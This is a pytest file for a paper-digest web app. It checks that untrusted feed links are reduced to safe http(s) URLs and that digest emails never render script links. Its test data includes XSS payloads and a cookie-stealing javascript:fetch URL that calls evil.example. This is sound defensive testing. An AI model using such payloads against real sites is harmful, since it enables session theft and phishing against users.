"""A paper's link comes from a feed we do not control: a `javascript:` link never becomes a link we render."""

import re
from datetime import date
from html import unescape

import pytest

from digest.models import Digest, DigestItem
from digest.render import digest_message
from papers.links import http_url, search_url
from papers.models import Paper
from tests.factories import make_subscriber
from tests.subscription_helpers import html_part

pytestmark = pytest.mark.django_db

HOSTILE = [
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:alert(1)",
    "  javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/phish",
    "/relative/path",
    "http:/no-host",
    "https://[::1",
    "https://arxiv.org/abs/2401.00001\u202eevil",
]


@pytest.mark.parametrize("url", HOSTILE)
def test_only_absolute_http_links_pass_the_link_check(url):
    assert http_url(url) == ""


@pytest.mark.parametrize(
    "url", ["https://arxiv.org/abs/2401.00001", "HTTP://ARXIV.ORG/pdf/2401.00001v2", " https://doi.org/10.1/x "]
)
def test_ordinary_paper_links_pass_unchanged(url):
    assert http_url(url) == url.strip()


def test_a_stored_javascript_link_is_rendered_as_plain_text_in_both_parts_of_the_digest():
    reader = make_subscriber()
    paper = Paper.objects.create(
        key="title:hostile",
        title="A paper with a hostile link",
        abstract="Its feed entry carried a script where the link should be.",
        abs_url="javascript:fetch('https://evil.example/?'+document.cookie)",
        pdf_url="data:text/html,<script>alert(1)</script>",
    )
    digest = Digest.objects.create(subscriber=reader, issue_date=date(2026, 8, 4))
    DigestItem.objects.create(digest=digest, paper=paper, rank=1, score=0.8, matched="graph neural networks")

    message = digest_message(digest)

    html = html_part(message)
    for part in (html, message.body):
        assert "A paper with a hostile link" in part
        assert "javascript:" not in part.lower() and "data:text" not in part
    assert "Abstract:" not in message.body and "PDF:" not in message.body
    title_link = re.search(r'<a href="([^"]*)"[^>]*>A paper with a hostile link</a>', html)
    assert unescape(title_link.group(1)) == search_url("A paper with a hostile link"), "only a search for its title"
    assert "More like this" in html, "the reader can still steer"
